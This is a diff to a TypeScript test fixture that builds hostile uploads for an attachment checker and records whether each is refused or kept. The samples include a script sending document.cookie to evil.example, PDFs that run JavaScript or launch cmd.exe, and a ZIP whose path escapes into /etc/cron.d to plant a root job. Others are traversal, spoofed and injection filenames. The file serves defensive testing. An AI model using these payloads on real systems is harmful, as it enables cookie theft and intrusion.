@@ -1,6 +1,6 @@
 /** Files that somebody would send to do harm, made by code: each with what has to become of it. */
 import { deflateSync } from 'node:zlib';
-import type { RefusalReason } from '@parley/contracts/attachments';
+import type { ActiveContent, RefusalReason } from '@parley/contracts/attachments';
 import sharp from 'sharp';
 
 export interface HostileFile {
@@ -9,7 +9,7 @@ export interface HostileFile {
   name: string;
   bytes: Buffer;
   /** Why it is refused, or as which type it is kept. */
-  becomes: { refused: RefusalReason } | { type: string; name?: string };
+  becomes: { refused: RefusalReason } | { type: string; name?: string; activeContent?: ActiveContent[] };
 }
 
 const script = '<script>fetch("https://evil.example/?"+document.cookie)</script>';
@@ -52,7 +52,7 @@ function png(width: number, height: number, pixels: Buffer, more: Buffer[] = [])
 }
 
 /** A ZIP of stored entries, with the names given. */
-function zip(...entries: [name: string, content: string][]): Buffer {
+export function zip(...entries: [name: string, content: string][]): Buffer {
   const locals: Buffer[] = [];
   const centrals: Buffer[] = [];
   let offset = 0;
@@ -357,13 +357,13 @@ export async function hostileFiles(): Promise<HostileFile[]> {
       about: 'a PDF that runs a script',
       name: 'a.pdf',
       bytes: pdf('/S/JavaScript/JS(app.alert\\(1\\))'),
-      becomes: { type: 'application/pdf' },
+      becomes: { type: 'application/pdf', activeContent: ['script'] },
     },
     {
       about: 'a PDF that starts a program',
       name: 'a.pdf',
       bytes: pdf('/S/Launch/F(cmd.exe)'),
-      becomes: { type: 'application/pdf' },
+      becomes: { type: 'application/pdf', activeContent: ['program'] },
     },
     {
       about: 'a PDF with HTML behind it',
@@ -375,7 +375,7 @@ export async function hostileFiles(): Promise<HostileFile[]> {
       about: 'a ZIP with paths out of its folder',
       name: 'a.zip',
       bytes: zip(['../../../etc/cron.d/evil', '* * * * * root sh']),
-      becomes: { type: 'application/zip' },
+      becomes: refused('unsafe'),
     },
   ];
 
@@ -383,7 +383,7 @@ export async function hostileFiles(): Promise<HostileFile[]> {
     [
       ['a path out of the folder', '../../../../etc/passwd', 'passwd.txt'],
       ['a path of Windows', 'C:\\Windows\\System32\\drivers\\etc\\hosts', 'hosts.txt'],
-      ['a name read from right to left', 'invoice\u202etxt.exe', 'invoicetxt.exe.txt'],
+      ['a name read from right to left', 'invoice\u202egpj.txt', 'invoicegpj.txt'],
       ['marks of direction', '\u2066a\u2069\u200f.txt', 'a.txt'],
       ['line breaks, which would be headers', 'a\r\nContent-Type: text/html\r\n\r\n.txt', 'html .txt'],
       ['control characters', 'a\u0007\u0008b\u007f.txt', 'a b .txt'],
@@ -391,8 +391,6 @@ export async function hostileFiles(): Promise<HostileFile[]> {
       ['a hidden file', '.htaccess', 'htaccess.txt'],
       ['nothing but dots', '...', 'file.txt'],
       ['quotes and brackets', '"><img src=x onerror=alert(1)>.txt', '___img src=x onerror=alert(1)_.txt'],
-      ['an ending that runs', 'update.bat', 'update.bat.txt'],
-      ['two endings', 'photo.jpg.js', 'photo.jpg.js.txt'],
       ['a name longer than any', `${'n'.repeat(900)}.txt`, `${'n'.repeat(115)}….txt`],
     ] as const
   ).map(([about, name, safe]) => ({ about, name, bytes: Buffer.from('harmless'), becomes: asText(safe) }));
